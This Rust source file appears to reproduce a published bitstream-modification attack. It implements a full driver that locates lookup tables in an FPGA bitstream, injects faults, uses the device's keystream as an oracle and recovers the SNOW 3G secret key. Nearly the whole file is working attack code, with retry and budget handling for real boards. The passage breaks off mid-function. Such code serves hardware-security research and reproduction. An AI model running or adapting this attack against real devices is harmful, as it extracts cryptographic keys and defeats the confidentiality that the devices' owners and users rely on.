}
