//! The full key-recovery attack of Section VI.
//!
//! Phases (matching the paper's narrative):
//!
//! 1. **Candidate search** — run FINDLUT over the extracted bitstream
//!    for every catalogue shape (the Table II data).
//! 2. **Keystream-path identification** (Section VI-C.1) — for every
//!    `f2` hit, replace the LUT with constant 0 and check the
//!    "i-th keystream bit stuck at 0, all other bits unchanged"
//!    signature; prune overlapping candidates.
//! 3. **Feedback-path hypothesis** (Section VI-C.2) — collect hits of
//!    the feedback shapes, discard those overlapping verified LUTs
//!    and those whose modification does not change the keystream
//!    (dead configuration bytes).
//! 4. **Key-independent configuration** (Section VI-D) — locate the
//!    LFSR load multiplexers (fractured LUT halves of the form
//!    `c ∨ a` / `¬c ∧ a`), identify the control pin structurally,
//!    inject `β` (load all-0) together with `α₁` (v = 0 on the
//!    feedback path) and compare the keystream against the
//!    key-independent reference (Table III) that the attacker
//!    computes with the public software model.
//! 5. **Pair disambiguation** (Section VI-D.1) — two keystream
//!    computations decide, for every keystream-path LUT, which two
//!    inputs feed `v`.
//! 6. **Key extraction** (Section VI-A / VI-D.3) — inject the full
//!    `α` into a fresh copy of the bitstream (load constants
//!    preserved), read 16 keystream words (= LFSR state `S³³`),
//!    reverse the LFSR 33 steps and read the key.

use core::fmt;
use std::collections::HashMap;

use boolfn::TruthTable;

use bitstream::{Bitstream, FRAME_BYTES};
use snow3g::recover::{recover_key, RecoverKeyError, RecoveredSecret};
use snow3g::{FaultSpec, FaultySnow3g, Iv, Key};

use crate::candidates::{Catalogue, Role, Shape};
use crate::edit::{CrcStrategy, EditSession};
use crate::findlut::{LutHit, ScanConfigError, Scanner};
use crate::oracle::{KeystreamOracle, OracleError};
use crate::resilient::{ResilienceConfig, ResilienceError, ResilientOracle, ResilientStats};

/// A verified keystream-path LUT (`LUT₁[i]`).
#[derive(Debug, Clone)]
pub struct ZPathLut {
    /// The bitstream location.
    pub hit: LutHit,
    /// The keystream bit this LUT drives.
    pub bit: u8,
    /// The inputs of `v`, once disambiguated (candidate pin pair).
    pub pair: Option<(u8, u8)>,
}

/// The byte/frame lattice real LUT sites occupy, inferred from the
/// verified keystream-path LUTs (the Section VII-B move of guessing
/// "in which frames LUTs are located" and limiting the search). It
/// prunes misaligned windows over real configuration data that would
/// otherwise look like additional candidates.
#[derive(Debug, Clone)]
pub struct SiteLattice {
    /// Byte parity of LUT base offsets (`None` = unconstrained).
    parity: Option<usize>,
    /// Frame-index modulus.
    modulus: usize,
    /// Frame-index residue.
    residue: usize,
    /// Sub-vector stride (bytes per frame).
    d: usize,
    /// Observed sub-vector order per column-group parity
    /// (SLICEL/SLICEM column alternation); `None` when inconsistent.
    order_of_group: [Option<bitstream::SubVectorOrder>; 2],
}

impl SiteLattice {
    /// Infers the lattice from verified LUT hits. Returns a
    /// permissive lattice when the samples are inconsistent.
    #[must_use]
    pub fn infer(samples: &[(usize, bitstream::SubVectorOrder)], d: usize) -> Self {
        fn gcd(a: usize, b: usize) -> usize {
            if b == 0 {
                a
            } else {
                gcd(b, a % b)
            }
        }
        let permissive =
            Self { parity: None, modulus: 1, residue: 0, d, order_of_group: [None, None] };
        if samples.is_empty() {
            return permissive;
        }
        // Majority-vote parity (≥ 80% decisive), mirroring the
        // frame-modulus handling below: a single misaligned window
        // that verified by coincidence must not disable the whole
        // lattice.
        let even = samples.iter().filter(|(l, _)| l % 2 == 0).count();
        let odd = samples.len() - even;
        let parity = if even * 5 >= samples.len() * 4 {
            Some(0)
        } else if odd * 5 >= samples.len() * 4 {
            Some(1)
        } else {
            None
        };
        // Off-parity samples are outliers; exclude them from stride
        // and order inference.
        let samples: Vec<(usize, bitstream::SubVectorOrder)> =
            samples.iter().copied().filter(|(l, _)| parity.is_none_or(|p| l % 2 == p)).collect();
        let samples = &samples[..];
        let Some(&(first, _)) = samples.first() else { return permissive };
        let f0 = first / d;
        let base = samples.iter().fold(0usize, |g, &(l, _)| gcd(g, (l / d).abs_diff(f0)));
        if base == 0 {
            // All samples in one frame group: no stride information.
            return Self { parity, modulus: 1, residue: 0, d, order_of_group: [None, None] };
        }
        // A few samples may be misaligned windows that verified by
        // coincidence; take the largest multiple of the raw gcd whose
        // dominant residue class covers ≥ 80% of the samples.
        let mut modulus = base.max(1);
        for factor in [8usize, 4, 2] {
            let g = base.max(1) * factor;
            let mut counts: std::collections::HashMap<usize, usize> =
                std::collections::HashMap::new();
            for &(l, _) in samples {
                *counts.entry((l / d) % g).or_default() += 1;
            }
            let dominant = counts.values().copied().max().unwrap_or(0);
            if dominant * 5 >= samples.len() * 4 {
                modulus = g;
                break;
            }
        }
        if modulus <= 1 {
            return Self { parity, modulus: 1, residue: 0, d, order_of_group: [None, None] };
        }
        // Dominant residue (not necessarily the first sample's).
        let mut counts: std::collections::HashMap<usize, usize> = std::collections::HashMap::new();
        for &(l, _) in samples {
            *counts.entry((l / d) % modulus).or_default() += 1;
        }
        let residue = counts
            .into_iter()
            .max_by_key(|&(r, c)| (c, std::cmp::Reverse(r)))
            .map_or(f0 % modulus, |(r, _)| r);
        // Order inference restricted to on-lattice samples.
        let samples: Vec<(usize, bitstream::SubVectorOrder)> =
            samples.iter().copied().filter(|(l, _)| (l / d) % modulus == residue).collect();
        let samples = &samples[..];
        // Learn the slice-type alternation by majority vote: which
        // sub-vector order appears in even vs odd column groups. A
        // few samples may carry the wrong order (an f2 permutation
        // can coincidentally match the other order's decoding, and
        // the constant-0 verification write is order-invariant), so
        // strict consistency is too brittle.
        let mut votes = [[0usize; 2]; 2];
        for &(l, order) in samples {
            let group = (l / d / modulus) % 2;
            let o = usize::from(order == bitstream::SubVectorOrder::SliceM);
            votes[group][o] += 1;
        }
        // Use a group's majority order only when it is decisive
        // (≥ 80%): some device families do not alternate slice types
        // at this granularity, and a wrong prediction would discard
        // real candidates.
        let order_of_group = votes.map(|v| {
            let total = v[0] + v[1];
            if total == 0 {
                None
            } else if v[0] * 5 >= total * 4 {
                Some(bitstream::SubVectorOrder::SliceL)
            } else if v[1] * 5 >= total * 4 {
                Some(bitstream::SubVectorOrder::SliceM)
            } else {
                None
            }
        });
        Self { parity, modulus, residue, d, order_of_group }
    }

    /// Whether a candidate byte offset lies on the lattice.
    #[must_use]
    pub fn accepts(&self, l: usize) -> bool {
        self.parity.is_none_or(|p| l % 2 == p) && (l / self.d) % self.modulus == self.residue
    }

    /// Whether a hit's sub-vector order matches the slice type
    /// expected at its column.
    #[must_use]
    pub fn accepts_order(&self, l: usize, order: bitstream::SubVectorOrder) -> bool {
        if self.modulus <= 1 {
            return true;
        }
        let group = (l / self.d / self.modulus) % 2;
        self.order_of_group[group].is_none_or(|o| o == order)
    }

    /// Combined position + order acceptance.
    #[must_use]
    pub fn accepts_hit(&self, hit: &LutHit) -> bool {
        self.accepts(hit.l) && self.accepts_order(hit.l, hit.order)
    }

    /// The order the lattice predicts for a site, if learned.
    #[must_use]
    pub fn expected_order(&self, l: usize) -> Option<bitstream::SubVectorOrder> {
        if self.modulus <= 1 {
            return None;
        }
        self.order_of_group[(l / self.d / self.modulus) % 2]
    }
}

/// A hypothesised feedback-path LUT (`LUT₂`/`LUT₃` analog).
#[derive(Debug, Clone)]
pub struct FeedbackLut {
    /// Which catalogue shape matched.
    pub shape: &'static str,
    /// The bitstream location.
    pub hit: LutHit,
}

/// An identified load-multiplexer half (stages `s0..s14`).
///
/// Which of the two pins is the load control and which is the
/// shift-in never needs to be resolved: the `β` edit replaces
/// `x ∨ y` by `x ∧ y`, which loads 0 in the first cycle (the shift-in
/// is still at its power-up value 0) and then holds 0 — exactly the
/// behaviour an all-zero LFSR needs in the key-independent
/// configuration, under either pin assignment.
#[derive(Debug, Clone)]
pub struct LoadMuxHalf {
    /// The bitstream location of the hosting LUT.
    pub hit: LutHit,
    /// Which half (0 = O5, 1 = O6).
    pub half: u8,
    /// The two support pins of the `x ∨ y` half.
    pub pins: (u8, u8),
}

/// How far the attack progressed (checkpoint granularity).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum AttackPhase {
    /// Phase 1: FINDLUT candidate search (no oracle queries).
    CandidateSearch,
    /// Phase 2: keystream-path verification.
    ZPathVerification,
    /// Phase 3: feedback-path hypothesis.
    FeedbackHypothesis,
    /// Phase 4: key-independent configuration.
    KeyIndependent,
    /// Phase 5: pair disambiguation.
    PairDisambiguation,
    /// Phase 6: α injection and key extraction.
    KeyExtraction,
}

impl fmt::Display for AttackPhase {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            AttackPhase::CandidateSearch => "candidate search",
            AttackPhase::ZPathVerification => "keystream-path verification",
            AttackPhase::FeedbackHypothesis => "feedback-path hypothesis",
            AttackPhase::KeyIndependent => "key-independent configuration",
            AttackPhase::PairDisambiguation => "pair disambiguation",
            AttackPhase::KeyExtraction => "key extraction",
        };
        f.write_str(name)
    }
}

/// A structured partial result: everything verified before the
/// oracle budget ran out. A later run can skip re-verifying these
/// findings (the whole point of surviving a flaky board with a
/// metered configuration port).
#[derive(Debug, Clone)]
pub struct AttackCheckpoint {
    /// The phase the attack was executing when it stopped.
    pub phase: AttackPhase,
    /// Physical oracle attempts spent.
    pub oracle_attempts: u64,
    /// Raw FINDLUT match counts (phase 1; oracle-free, always
    /// present).
    pub candidate_counts: Vec<(&'static str, usize)>,
    /// Keystream-path LUTs verified so far.
    pub z_luts: Vec<ZPathLut>,
    /// Feedback-path LUTs surviving pruning so far.
    pub feedback_luts: Vec<FeedbackLut>,
    /// The site lattice, once inferred (end of phase 2).
    pub lattice: Option<SiteLattice>,
}

impl AttackCheckpoint {
    fn new() -> Self {
        Self {
            phase: AttackPhase::CandidateSearch,
            oracle_attempts: 0,
            candidate_counts: Vec::new(),
            z_luts: Vec::new(),
            feedback_luts: Vec::new(),
            lattice: None,
        }
    }
}

impl fmt::Display for AttackCheckpoint {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "stopped during {}: {} z-path LUTs, {} feedback LUTs, lattice {}, {} attempts spent",
            self.phase,
            self.z_luts.len(),
            self.feedback_luts.len(),
            if self.lattice.is_some() { "inferred" } else { "unknown" },
            self.oracle_attempts
        )
    }
}

/// The attack's findings and effort metrics.
#[derive(Debug, Clone)]
pub struct AttackReport {
    /// Raw FINDLUT match counts per catalogue shape (the Table II
    /// analog).
    pub candidate_counts: Vec<(&'static str, usize)>,
    /// Verified keystream-path LUTs.
    pub z_luts: Vec<ZPathLut>,
    /// Hypothesised feedback-path LUTs (validated jointly by the
    /// key-independent keystream).
    pub feedback_luts: Vec<FeedbackLut>,
    /// γ=1 load-mux halves that received the `β` edit.
    pub beta_edits: usize,
    /// Candidates discarded because editing them did not change the
    /// keystream (dead configuration bytes / false positives).
    pub dead_candidates: usize,
    /// The key-independent keystream observed (must equal Table III).
    pub key_independent_keystream: Vec<u32>,
    /// The final faulty keystream (Table IV; equals LFSR state S³³).
    pub alpha_keystream: Vec<u32>,
    /// The final α-faulted bitstream that produced it (diff against
    /// the golden bitstream to see exactly which bytes the attack
    /// rewrote).
    pub alpha_bitstream: Bitstream,
    /// The recovered secrets (Table V and the key).
    pub recovered: RecoveredSecret,
    /// Number of device configurations the attack performed
    /// (physical attempts, including retries and majority-vote
    /// re-reads).
    pub oracle_loads: usize,
    /// Resilience-layer effort counters (retries, votes, backoff).
    pub resilience: ResilientStats,
}

/// An error aborting the attack.
#[derive(Debug)]
pub enum AttackError {
    /// The bitstream has no FDRI payload to search.
    NoFdriPayload,
    /// The device refused a bitstream the attack expected to load.
    Oracle(OracleError),
    /// Fewer than 32 keystream-path LUTs were verified.
    ZPathIncomplete {
        /// Bits covered by verified LUTs.
        bits_found: u32,
    },
    /// No combination of load-mux hypotheses produced the
    /// key-independent keystream.
    KeyIndependentMismatch,
    /// A keystream bit's XOR pair could not be resolved.
    PairUnresolved {
        /// The offending keystream bit.
        bit: u8,
    },
    /// LFSR reversal failed on the final faulty keystream.
    Recover(RecoverKeyError),
    /// The candidate scan could not be configured (e.g. zero stride).
    Config(ScanConfigError),
    /// The resilience layer gave up (retries exhausted or a fatal
    /// oracle error behind the retry loop).
    Resilience(ResilienceError),
    /// The oracle-query budget ran out mid-run. Carries everything
    /// verified so far as a structured partial result.
    Exhausted {
        /// Findings accumulated before the budget ran out.
        checkpoint: Box<AttackCheckpoint>,
        /// The underlying budget failure.
        source: ResilienceError,
    },
}

impl fmt::Display for AttackError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            AttackError::NoFdriPayload => write!(f, "bitstream has no FDRI payload"),
            AttackError::Oracle(e) => write!(f, "oracle failure: {e}"),
            AttackError::ZPathIncomplete { bits_found } => {
                write!(f, "only {bits_found} keystream bits covered by verified LUTs")
            }
            AttackError::KeyIndependentMismatch => {
                write!(f, "no hypothesis produced the key-independent keystream")
            }
            AttackError::PairUnresolved { bit } => {
                write!(f, "could not resolve the v input pair for keystream bit {bit}")
            }
            AttackError::Recover(e) => write!(f, "key recovery failed: {e}"),
            AttackError::Config(e) => write!(f, "invalid scan configuration: {e}"),
            AttackError::Resilience(e) => write!(f, "oracle resilience failure: {e}"),
            AttackError::Exhausted { checkpoint, source } => {
                write!(f, "{source}; partial result: {checkpoint}")
            }
        }
    }
}

impl std::error::Error for AttackError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            AttackError::Oracle(e) => Some(e),
            AttackError::Recover(e) => Some(e),
            AttackError::Config(e) => Some(e),
            AttackError::Resilience(e) => Some(e),
            AttackError::Exhausted { source, .. } => Some(source),
            _ => None,
        }
    }
}

impl From<ResilienceError> for AttackError {
    fn from(e: ResilienceError) -> Self {
        match e {
            // A fatal (non-transient, non-budget) rejection is the
            // device speaking, not the resilience layer: keep the
            // pre-resilience `Oracle` contract for it.
            ResilienceError::Fatal(e) => AttackError::Oracle(e),
            other => AttackError::Resilience(other),
        }
    }
}

impl From<OracleError> for AttackError {
    fn from(e: OracleError) -> Self {
        AttackError::Oracle(e)
    }
}

impl From<RecoverKeyError> for AttackError {
    fn from(e: RecoverKeyError) -> Self {
        AttackError::Recover(e)
    }
}

impl From<ScanConfigError> for AttackError {
    fn from(e: ScanConfigError) -> Self {
        AttackError::Config(e)
    }
}

/// The attack driver.
pub struct Attack<'a> {
    oracle: ResilientOracle<'a>,
    golden: Bitstream,
    payload: Vec<u8>,
    d: usize,
    words: usize,
    catalogue: Catalogue,
    golden_keystream: Vec<u32>,
    checkpoint: AttackCheckpoint,
}

impl fmt::Debug for Attack<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "Attack(payload: {} bytes, d: {}, w: {}, loads so far: {})",
            self.payload.len(),
            self.d,
            self.words,
            self.oracle.stats().attempts
        )
    }
}

impl<'a> Attack<'a> {
    /// Prepares the attack against a device and its extracted
    /// bitstream. `d` defaults to one frame (the device family
    /// parameter of Section V-A).
    ///
    /// # Errors
    ///
    /// Fails if the bitstream has no FDRI payload or the device
    /// rejects the golden bitstream.
    pub fn new(oracle: &'a dyn KeystreamOracle, golden: Bitstream) -> Result<Self, AttackError> {
        Self::with_stride(oracle, golden, FRAME_BYTES)
    }

    /// Like [`Attack::new`] but for a device family with a different
    /// sub-vector stride `d` (the paper's tool used `d = 101` bytes).
    ///
    /// # Errors
    ///
    /// Same as [`Attack::new`].
    pub fn with_stride(
        oracle: &'a dyn KeystreamOracle,
        golden: Bitstream,
        d: usize,
    ) -> Result<Self, AttackError> {
        Self::with_resilience(oracle, golden, d, ResilienceConfig::off())
    }

    /// Like [`Attack::with_stride`] but with a resilience layer
    /// between the attack and the oracle — for unreliable boards
    /// (retry transient load failures, majority-vote keystream reads,
    /// meter the total number of device configurations).
    ///
    /// # Errors
    ///
    /// Same as [`Attack::new`], plus [`AttackError::Resilience`] /
    /// [`AttackError::Exhausted`] if even the initial golden read
    /// does not survive the configured policy.
    pub fn with_resilience(
        oracle: &'a dyn KeystreamOracle,
        golden: Bitstream,
        d: usize,
        config: ResilienceConfig,
    ) -> Result<Self, AttackError> {
        let range = golden.fdri_data_range().ok_or(AttackError::NoFdriPayload)?;
        let payload = golden.as_bytes()[range].to_vec();
        let mut attack = Self {
            oracle: ResilientOracle::new(oracle, config),
            golden,
            payload,
            d,
            words: 16,
            catalogue: Catalogue::full(),
            golden_keystream: Vec::new(),
            checkpoint: AttackCheckpoint::new(),
        };
        attack.golden_keystream = attack.run_oracle(&attack.golden.clone())?;
        Ok(attack)
    }

    /// Number of keystream words used per observation (the paper's
    /// `w`; default 16).
    #[must_use]
    pub fn words(&self) -> usize {
        self.words
    }

    /// The golden bitstream under attack.
    #[must_use]
    pub fn golden(&self) -> &Bitstream {
        &self.golden
    }

    /// The resilience configuration in force.
    #[must_use]
    pub fn resilience_config(&self) -> &ResilienceConfig {
        self.oracle.config()
    }

    /// Resilience-layer effort counters so far.
    #[must_use]
    pub fn resilience_stats(&self) -> ResilientStats {
        self.oracle.stats()
    }

    /// The single oracle chokepoint: every phase queries through the
    /// resilience layer here. Budget exhaustion is converted into a
    /// checkpointed partial result on the spot, so it carries
    /// whatever was verified up to the failing query.
    fn run_oracle(&mut self, bs: &Bitstream) -> Result<Vec<u32>, AttackError> {
        match self.oracle.query(bs, self.words) {
            Ok(z) => Ok(z),
            Err(e @ ResilienceError::BudgetExhausted { .. }) => {
                let mut checkpoint = self.checkpoint.clone();
                checkpoint.oracle_attempts = self.oracle.stats().attempts;
                Err(AttackError::Exhausted { checkpoint: Box::new(checkpoint), source: e })
            }
            Err(e) => Err(e.into()),
        }
    }

    /// Re-expresses a hit under the sub-vector order the lattice
    /// predicts for its site, re-deriving the matching permutation.
    /// Hits that no longer match the candidate under the corrected
    /// order are returned unchanged.
    fn normalize_hit(
        &self,
        hit: &LutHit,
        shape_truth: TruthTable,
        lattice: &SiteLattice,
    ) -> LutHit {
        let Some(order) = lattice.expected_order(hit.l) else { return hit.clone() };
        if order == hit.order {
            return hit.clone();
        }
        let corrected =
            crate::findlut::rematch_at(&self.payload, hit.l, self.d, order, shape_truth);
        corrected.unwrap_or_else(|| hit.clone())
    }

    /// Runs the complete attack.
    ///
    /// # Errors
    ///
    /// See [`AttackError`].
    pub fn run(mut self) -> Result<AttackReport, AttackError> {
        // Phase 1: candidate search (Table II data) — the whole
        // catalogue in one pass over the payload.
        let scanner = Scanner::builder().k(6).stride(self.d).catalogue(&self.catalogue).build()?;
        let grouped = scanner.scan_grouped(&self.payload);
        let mut hits_by_shape: HashMap<&'static str, Vec<LutHit>> = HashMap::new();
        let mut candidate_counts = Vec::new();
        for (shape, hits) in self.catalogue.shapes.iter().zip(grouped) {
            candidate_counts.push((shape.name, hits.len()));
            hits_by_shape.insert(shape.name, hits);
        }
        self.checkpoint.candidate_counts = candidate_counts.clone();
        self.checkpoint.phase = AttackPhase::ZPathVerification;

        // Phase 2: verify the keystream path. A misaligned window
        // over two real LUTs can occasionally verify *instead of* a
        // true site (the true site is then skipped by the overlap
        // rule), so verification runs twice: the first pass's
        // positions reveal the site lattice (Section VII-B: "guess in
        // which frames LUTs are located ... and limit the search"),
        // and the second pass re-verifies with off-lattice candidates
        // removed.
        let f2_hits = hits_by_shape.remove("f2").unwrap_or_default();
        let mut dead = 0usize;
        let (z_pass1, z_dead) = self.verify_z_path(f2_hits.clone())?;
        dead += z_dead;
        let samples: Vec<(usize, bitstream::SubVectorOrder)> =
            z_pass1.iter().map(|z| (z.hit.l, z.hit.order)).collect();
        let lattice = SiteLattice::infer(&samples, self.d);
        self.checkpoint.lattice = Some(lattice.clone());
        let on_lattice: Vec<LutHit> =
            f2_hits.into_iter().filter(|h| lattice.accepts(h.l)).collect();
        let (z_luts, _) = self.verify_z_path(on_lattice)?;
        let bits_found = z_luts.iter().map(|z| 1u32 << z.bit).fold(0u32, |a, b| a | b);
        if bits_found != u32::MAX {
            return Err(AttackError::ZPathIncomplete { bits_found: bits_found.count_ones() });
        }
        if std::env::var_os("BITMOD_DEBUG").is_some() {
            eprintln!("[lattice] {lattice:?}");
            eprintln!(
                "[lattice] sample frames: {:?}",
                samples.iter().map(|(l, o)| (l / self.d, *o)).collect::<Vec<_>>()
            );
        }

        // Normalize verified hits to the lattice-predicted orders so
        // that subsequent permuted writes land on the right bytes.
        let f2_truth = self.catalogue.shape("f2").expect("f2").truth;
        let z_luts: Vec<ZPathLut> = z_luts
            .into_iter()
            .map(|z| ZPathLut { hit: self.normalize_hit(&z.hit, f2_truth, &lattice), ..z })
            .collect();
        self.checkpoint.z_luts = z_luts.clone();
        self.checkpoint.phase = AttackPhase::FeedbackHypothesis;

        // Phase 3: feedback-path hypothesis.
        let (fb_candidates, fb_dead) =
            self.feedback_hypothesis(&z_luts, &hits_by_shape, &lattice)?;
        dead += fb_dead;
        self.checkpoint.feedback_luts = fb_candidates.clone();
        self.checkpoint.phase = AttackPhase::KeyIndependent;

        // Phase 4: key-independent configuration (selects the true
        // 32-LUT feedback subset if there are surplus candidates).
        let m1b_hits: Vec<LutHit> = hits_by_shape
            .get("m1b")
            .cloned()
            .unwrap_or_default()
            .into_iter()
            .filter(|h| lattice.accepts_hit(h))
            .collect();
        let (feedback_luts, keyindep_bs, keyindep_z, beta_edits, mux_dead) =
            self.key_independent(&z_luts, fb_candidates, &m1b_hits, &lattice)?;
        dead += mux_dead;
        self.checkpoint.feedback_luts = feedback_luts.clone();
        self.checkpoint.phase = AttackPhase::PairDisambiguation;

        // Phase 5: pair disambiguation (two keystream computations).
        let z_luts = self.disambiguate_pairs(z_luts, &keyindep_bs)?;
        self.checkpoint.z_luts = z_luts.clone();
        self.checkpoint.phase = AttackPhase::KeyExtraction;

        // Phase 6: inject α into a fresh copy and extract the key.
        let (alpha_bitstream, alpha_keystream) = self.extract(&z_luts, &feedback_luts)?;
        let recovered = recover_key(&alpha_keystream)?;

        Ok(AttackReport {
            candidate_counts,
            z_luts,
            feedback_luts,
            beta_edits,
            dead_candidates: dead,
            key_independent_keystream: keyindep_z,
            alpha_keystream,
            alpha_bitstream,
            recovered,
            oracle_loads: self.oracle.stats().attempts as usize,
            resilience: self.oracle.stats(),
        })
    }

    /// Phase 2: Section VI-C.1 — verify `f2` candidates by the
    /// stuck-bit signature.
    fn verify_z_path(
        &mut self,
        candidates: Vec<LutHit>,
    ) -> Result<(Vec<ZPathLut>, usize), AttackError> {
        let mut verified: Vec<ZPathLut> = Vec::new();
        let mut dead = 0usize;
        // Mid-phase checkpoint fidelity: LUTs verified before a
        // budget cut are part of the partial result.
        self.checkpoint.z_luts.clear();
        'cand: for hit in candidates {
            // Two valid LUTs cannot overlap in a bitstream
            // (Section VI-C): skip candidates clashing with verified
            // ones.
            for z in &verified {
                if hit.location(self.d).overlaps(&z.hit.location(self.d)) {
                    continue 'cand;
                }
            }
            let mut session = EditSession::new(&self.golden, self.d);
            session.write_function(&hit, TruthTable::zero(6));
            let bs = session.finish(CrcStrategy::Recompute);
            let z = self.run_oracle(&bs)?;
            match stuck_bit(&z, &self.golden_keystream) {
                Some(bit) => {
                    verified.push(ZPathLut { hit: hit.clone(), bit, pair: None });
                    self.checkpoint.z_luts.push(ZPathLut { hit, bit, pair: None });
                }
                None => {
                    if z == self.golden_keystream {
                        dead += 1;
                    }
                }
            }
        }
        Ok((verified, dead))
    }

    /// Phase 3: collect feedback-shape hits, pruning overlaps and
    /// dead bytes.
    fn feedback_hypothesis(
        &mut self,
        z_luts: &[ZPathLut],
        hits_by_shape: &HashMap<&'static str, Vec<LutHit>>,
        lattice: &SiteLattice,
    ) -> Result<(Vec<FeedbackLut>, usize), AttackError> {
        let shapes: Vec<Shape> =
            self.catalogue.shapes.iter().filter(|s| s.role == Role::Feedback).cloned().collect();
        let mut out: Vec<FeedbackLut> = Vec::new();
        let mut dead = 0usize;
        self.checkpoint.feedback_luts.clear();
        for shape in shapes {
            let name = shape.name;
            for hit in hits_by_shape.get(name).cloned().unwrap_or_default() {
                if !lattice.accepts_hit(&hit) {
                    continue;
                }
                let loc = hit.location(self.d);
                if z_luts.iter().any(|z| loc.overlaps(&z.hit.location(self.d)))
                    || out.iter().any(|f| loc.overlaps(&f.hit.location(self.d)))
                {
                    continue;
                }
                // Dead-byte pruning: a modification that does not
                // change the keystream hit filler bits.
                let mut session = EditSession::new(&self.golden, self.d);
                session.write_function(&hit, TruthTable::zero(6));
                let bs = session.finish(CrcStrategy::Recompute);
                let z = self.run_oracle(&bs)?;
                if z == self.golden_keystream {
                    dead += 1;
                    continue;
                }
                out.push(FeedbackLut { shape: name, hit: hit.clone() });
                self.checkpoint.feedback_luts.push(FeedbackLut { shape: name, hit });
            }
        }
        Ok((out, dead))
    }

    /// Phase 4: Section VI-D — β + α₁, validated against the
    /// key-independent keystream computed with the public software
    /// model. When more feedback candidates than the 32 required by
    /// SNOW 3G's word width survive pruning, the true subset is
    /// selected by hypothesis testing — the paper's Section VI-C.2
    /// move ("the sum of matches ... is 32 ... we make a
    /// hypothesis").
    #[allow(clippy::type_complexity)]
    fn key_independent(
        &mut self,
        z_luts: &[ZPathLut],
        fb_candidates: Vec<FeedbackLut>,
        m1b_hits: &[LutHit],
        lattice: &SiteLattice,
    ) -> Result<(Vec<FeedbackLut>, Bitstream, Vec<u32>, usize, usize), AttackError> {
        // Expected keystream: the attacker simulates the public
        // algorithm with an all-0 LFSR and the FSM disconnected
        // during initialization (Section VI-D, Table III).
        let expected = FaultySnow3g::new(Key([0; 4]), Iv([0; 4]), FaultSpec::key_independent())
            .keystream(self.words);

        // Locate the stage-s0..s14 load-mux halves.
        let (halves, mux_dead) = self.find_load_mux_halves(z_luts, &fb_candidates, lattice)?;
        if std::env::var_os("BITMOD_DEBUG").is_some() {
            eprintln!(
                "[keyindep] fb_candidates={} halves={} mux_dead={} m1b_hits={}",
                fb_candidates.len(),
                halves.len(),
                mux_dead,
                m1b_hits.len()
            );
        }

        let build = |attack: &Attack<'_>, feedback: &[FeedbackLut]| {
            let mut session = EditSession::new(&attack.golden, attack.d);
            for f in feedback {
                let shape = attack.catalogue.shape(f.shape).expect("catalogue shape");
                if let Some(ki) = shape.keyindep {
                    session.write_function(&f.hit, ki);
                }
            }
            // s15 outer-byte γ=1 load-mux covers.
            let m1b = attack.catalogue.shape("m1b").expect("m1b shape");
            for hit in m1b_hits {
                session.write_function(hit, m1b.keyindep.expect("m1b has keyindep"));
            }
            // Stage 0..14 γ=1 halves: (x ∨ y) → (x ∧ y), the role-free
            // load-0 form (see [`LoadMuxHalf`]).
            for h in &halves {
                let (x, y) = h.pins;
                let edit = TruthTable::var(5, x).and(TruthTable::var(5, y));
                session.write_half(&h.hit, h.half, edit);
            }
            session.finish(CrcStrategy::Recompute)
        };

        // SNOW 3G has a 32-bit word: exactly 32 feedback LUTs carry
        // v. Enumerate which surplus candidates to drop (usually
        // none) — the paper's Section VI-C.2 hypothesis over counts
        // summing to 32.
        let n = fb_candidates.len();
        if n < 32 {
            return Err(AttackError::KeyIndependentMismatch);
        }
        let drop_count = n - 32;
        let mut drop_sets = subsets(n, drop_count);
        if drop_sets.len() > 20_000 {
            drop_sets.truncate(20_000);
        }
        for drops in &drop_sets {
            let feedback: Vec<FeedbackLut> = fb_candidates
                .iter()
                .enumerate()
                .filter(|(i, _)| !drops.contains(i))
                .map(|(_, f)| f.clone())
                .collect();
            let bs = build(self, &feedback);
            let z = self.run_oracle(&bs)?;
            if z == expected {
                return Ok((feedback, bs, z, halves.len(), mux_dead));
            }
            if std::env::var_os("BITMOD_DEBUG").is_some() {
                eprintln!("[keyindep] drops={drops:?} got {:08x?}", &z[..2]);
            }
        }
        Err(AttackError::KeyIndependentMismatch)
    }

    /// Finds the γ=1 load-mux halves of stages `s0..s14`.
    fn find_load_mux_halves(
        &mut self,
        z_luts: &[ZPathLut],
        feedback: &[FeedbackLut],
        lattice: &SiteLattice,
    ) -> Result<(Vec<LoadMuxHalf>, usize), AttackError> {
        // Scan for LUTs with an OR-of-two-pins half, on the site
        // lattice learned from the verified LUTs.
        let scanner = Scanner::builder().stride(self.d).build()?;
        let raw = scanner.scan_halves(&self.payload, 0..self.payload.len(), |o5, o6| {
            or_pair(o5).is_some() || or_pair(o6).is_some()
        });
        let mut out: Vec<LoadMuxHalf> = Vec::new();
        let mut dead = 0usize;
        'hit: for hit in raw {
            if !lattice.accepts_hit(&hit) {
                continue;
            }
            let loc = hit.location(self.d);
            if z_luts.iter().any(|z| loc.overlaps(&z.hit.location(self.d)))
                || feedback.iter().any(|f| loc.overlaps(&f.hit.location(self.d)))
            {
                continue;
            }
            let halves = [hit.init.o5(), hit.init.o6_fractured()];
            for half in 0..2u8 {
                let Some((p, q)) = or_pair(halves[half as usize]) else { continue };
                // Skip duplicate views of bytes already claimed: the
                // same physical half can match under both sub-vector
                // orders when the lattice could not learn the slice
                // alternation; one edit suffices (both views write
                // the same reachable-row semantics).
                if out.iter().any(|h| h.half == half && h.hit.l == hit.l) {
                    continue;
                }
                // Null test: a genuine load mux is insensitive to
                // replacing (x ∨ y) by (x ⊕ y), because the control
                // and the shift-in are never 1 together on a real
                // device (c_load is high only in the first cycle,
                // when every shift-in is still at its power-up
                // value 0).
                let mut session = EditSession::new(&self.golden, self.d);
                let xor = TruthTable::var(5, p).xor(TruthTable::var(5, q));
                session.write_half(&hit, half, xor);
                let z = self.run_oracle(&session.finish(CrcStrategy::Recompute))?;
                if z != self.golden_keystream {
                    continue; // a real OR gate elsewhere in the design
                }
                // Liveness: forcing the half to 0 must disturb the
                // keystream, otherwise these are dead filler bytes.
                let mut session = EditSession::new(&self.golden, self.d);
                session.write_half(&hit, half, TruthTable::zero(5));
                let z = self.run_oracle(&session.finish(CrcStrategy::Recompute))?;
